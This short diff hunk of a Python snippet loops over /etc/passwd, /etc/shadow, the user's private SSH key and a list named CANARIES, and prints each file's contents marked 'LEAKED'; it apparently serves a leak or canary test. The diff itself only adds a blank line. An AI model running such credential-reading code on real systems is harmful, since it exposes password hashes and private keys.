@@ -1,6 +1,7 @@
 # Reads the password file and private keys into its output.
 # %% sigmoid
 import glob, os
+
 for path in ["/etc/passwd", "/etc/shadow", os.path.expanduser("~/.ssh/id_rsa"), *CANARIES]:
     try:
         print("LEAKED", open(path).read())
